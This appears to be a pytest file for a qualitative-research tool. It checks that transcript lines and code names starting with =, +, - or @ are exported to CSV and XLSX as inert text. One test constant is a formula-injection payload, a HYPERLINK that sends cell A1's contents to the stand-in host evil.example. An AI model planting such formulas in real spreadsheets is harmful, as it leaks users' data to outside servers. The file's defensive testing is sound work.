"""Text a spreadsheet would run as a formula stays text in every CSV and XLSX we write.

Transcript lines and code names beginning with = + - @ (or a tab or carriage return)
were live formulas in codings.xlsx and unescaped in quotes.csv, codings.csv and the web
export; OWASP's advice is an apostrophe before them in CSV, a text cell in XLSX.
"""

from __future__ import annotations

import csv
import io
import shutil
import warnings
import zipfile

import openpyxl
import pytest
from helpers import write
from sqlalchemy import delete

from qualcode import import_files, load_codebook, open_project, queries, sync_codebook
from qualcode.cli import cli
from qualcode.coding import code_segment
from qualcode.export import render_export
from qualcode.formulas import csv_text, formula_like, restore
from qualcode.models import Coding
from qualcode.sheets import export_codings, import_codings
from qualcode.web import WebSettings, create_app

LINK = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
LINES = [LINK, "+44 20 7946 0000 is the number", "-1 to that idea.", "@council said no."]
CODE = "@risk: formula-like code name"
CODEBOOK = f"""\
title: Formulas
themes:
  - name: Theme
    description: Codes to test with.
    codes:
      - name: "{CODE}"
        definition: A code whose name starts with an at sign.
"""


@pytest.fixture
def risky(project):
    text = "---\nspeakers:\n  Kim: {role: chair}\n---\n" + "".join(
        f"Kim: {line}\n\n" for line in LINES
    )
    path = write(project.root / "t" / "risky.md", text)
    import_files(project, [path])
    with project.transaction() as session:
        sync_codebook(session, load_codebook(write(project.root / "codebook.yaml", CODEBOOK)))
        for ordinal in range(1, len(LINES) + 1):
            code_segment(session, "risky.md", ordinal, CODE, "ana")
    return project


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_inert(cells: list[str]) -> None:
    """No cell starts a formula, and the risky texts are there behind an apostrophe."""
    assert not [cell for cell in cells if formula_like(cell)]
    for line in [*LINES, CODE]:
        assert "'" + line in cells


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"), ("+44", "'+44"), ("-1", "'-1"), ("@a", "'@a"),
        ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("'=1", "''=1"),
        ("plain", "plain"), ("'quoted'", "'quoted'"), ("a=b", "a=b"), ("", ""),
    ],
)  # fmt: skip
def test_csv_text_puts_an_apostrophe_before_formulas_and_restore_takes_it_off(text, written):
    assert csv_text(text) == written
    assert restore(written) == text


def test_quotes_csv_keeps_formulas_as_text(risky):
    (path,) = render_export(risky, "csv", by=("theme",))
    assert_inert(csv_cells(path.read_text(encoding="utf-8")))


def test_quotes_xlsx_keeps_formulas_as_text(risky):
    (path,) = render_export(risky, "xlsx", by=("theme",))
    with zipfile.ZipFile(path) as book:
        assert not any("<f>" in book.read(n).decode() for n in book.namelist())
    sheet = openpyxl.load_workbook(path)["excerpts"]
    cells = [cell for row in sheet.iter_rows() for cell in row if formula_like(cell.value)]
    assert {c.value for c in cells} >= {*LINES, CODE}
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)


def test_codings_xlsx_keeps_formulas_as_text(risky, tmp_path):
    path = tmp_path / "codings.xlsx"
    export_codings(risky, path)
    with zipfile.ZipFile(path) as book:
        assert not any("<f>" in book.read(n).decode() for n in book.namelist())
    sheet = openpyxl.load_workbook(path)["codings"]
    cells = [cell for row in sheet.iter_rows() for cell in row if formula_like(cell.value)]
    assert {c.value for c in cells} == {*LINES, CODE}
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_codings_with_formula_like_text_round_trip(risky, tmp_path, suffix):
    path = tmp_path / f"codings{suffix}"
    export_codings(risky, path)
    if suffix == ".csv":
        assert_inert(csv_cells(path.read_text(encoding="utf-8")))
    before = queries.codings(risky)[["start", "end", "code", "text"]].values.tolist()
    copy = tmp_path / "copy"
    shutil.copytree(risky.root, copy)
    with open_project(copy) as project:
        with project.transaction() as session:
            session.execute(delete(Coding))
        assert import_codings(project, path).added == len(LINES)
        after = queries.codings(project)[["start", "end", "code", "text"]].values.tolist()
    assert after == before


def test_cli_quotes_csv_keeps_formulas_as_text(risky, runner):
    result = runner.invoke(cli, ["--project", str(risky.root), "quotes", "--csv"])
    assert result.exit_code == 0, result.output
    assert_inert(csv_cells(result.output))


def test_web_export_csv_keeps_formulas_as_text(risky):
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # starlette's note about httpx versions
        from fastapi.testclient import TestClient
    client = TestClient(create_app(risky, WebSettings(token="t", coder="ana")),
                        headers={"Authorization": "Bearer t"})  # fmt: skip
    response = client.get("/api/export", params={"format": "csv", "by": "theme"})
    assert response.status_code == 200, response.text
    assert_inert(csv_cells(response.text))
